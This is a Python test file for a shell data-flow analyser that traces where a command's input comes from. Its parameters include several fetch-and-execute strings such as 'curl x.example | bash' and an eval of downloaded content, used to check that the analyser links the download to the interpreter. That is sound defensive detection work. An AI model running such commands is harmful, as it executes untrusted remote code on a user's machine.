"""Where data comes from."""

import pytest

from synaptic.shell.effects.flow import Flow, interpreter
from synaptic.shell.read.reader import read


def origins(text: str, name: str) -> set[str]:
    found = read(text, "/p", "/h")
    last = [command for command in found.commands if command.name == name][-1]
    return {command.name for command in Flow(found).origins(last)}


@pytest.mark.parametrize(
    ("text", "name"),
    [
        ("curl x.example | bash", "bash"),
        ("curl x.example | cat | bash", "bash"),
        ("cat <(curl x.example) | bash", "bash"),
        ('echo "$(curl x.example)" | bash', "bash"),
        ("bash < <(curl x.example)", "bash"),
        ('X=$(curl x.example); eval "$X"', "eval"),
    ],
)
def test_data_is_followed_through_pipes_and_substitutions(text: str, name: str):
    assert "curl" in origins(text, name)


def test_what_stands_behind_or_apart_feeds_nothing():
    assert origins("bash | curl x.example", "bash") == set()
    assert origins("curl x.example; bash", "bash") == set()


def test_interpreters_with_versions_and_in_capitals():
    assert interpreter("python3.11") == "language"
    assert interpreter("BASH") == "shell"
    assert interpreter("rm") == ""


def test_the_nearest_command_comes_first_and_none_twice():
    found = read("a | b $(c | d) | e", "/p", "/h")
    last = found.commands[-1]
    assert [command.name for command in Flow(found).origins(last)] == ["b", "d", "c", "a"]


def test_more_links_than_are_followed_are_said():
    small, large = read("cat a | sh; " * 20), read("|".join(["sh"] * 900))
    for found, tangled in ((small, False), (large, True)):
        flow = Flow(found)
        for command in found.commands:
            flow.origins(command)
        assert flow.tangled is tangled
